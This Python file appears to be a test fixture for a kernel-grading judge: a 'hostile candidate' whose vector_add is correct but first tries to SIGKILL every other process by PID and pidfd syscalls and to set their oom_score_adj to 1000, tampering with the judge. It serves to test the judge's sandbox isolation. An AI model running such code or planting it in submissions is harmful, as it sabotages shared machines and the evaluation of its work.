# Hostile candidate (judge tampering): a correct vector_add that first tries to SIGKILL every
# other process it can name (by pid and through pidfds) and to set their oom_score_adj to 1000,
# which used to kill the template and with it every later candidate's process. In its own PID
# namespace it can name no one: judged correct, and the next candidate is judged as usual.
import ctypes
import os
import signal

import torch
import triton
import triton.language as tl


@triton.jit
def _combine_kernel(x_ptr, y_ptr, out_ptr, n_elements, SIGN: tl.constexpr, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(axis=0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, x + SIGN * y, mask=mask)


def _combine(x: torch.Tensor, y: torch.Tensor, sign: int) -> torch.Tensor:
    out = torch.empty_like(x)
    n = out.numel()
    _combine_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, SIGN=sign, BLOCK_SIZE=1024)
    return out

_libc = ctypes.CDLL(None, use_errno=True)


def _attack() -> list[str]:
    done = []
    # Its own threads (a GPU context starts some: /proc/<tid> names them though /proc lists
    # only processes) are not others.
    mine = {int(t) for t in os.listdir("/proc/self/task")}
    for pid in range(1, 4096):
        if pid in mine:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            done.append(f"kill {pid}")
        except OSError:
            pass
        fd = _libc.syscall(434, pid, 0)  # pidfd_open
        if fd >= 0:
            if _libc.syscall(424, fd, signal.SIGKILL, None, 0) == 0:  # pidfd_send_signal
                done.append(f"pidfd kill {pid}")
            os.close(fd)
        try:
            with open(f"/proc/{pid}/oom_score_adj", "w") as f:
                f.write("1000")
            done.append(f"oom {pid}")
        except OSError:
            pass
    return done


def vector_add(x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    done = _attack()
    if done:
        raise RuntimeError("reached: " + ", ".join(done[:5]))
    return _combine(x, y, 1)
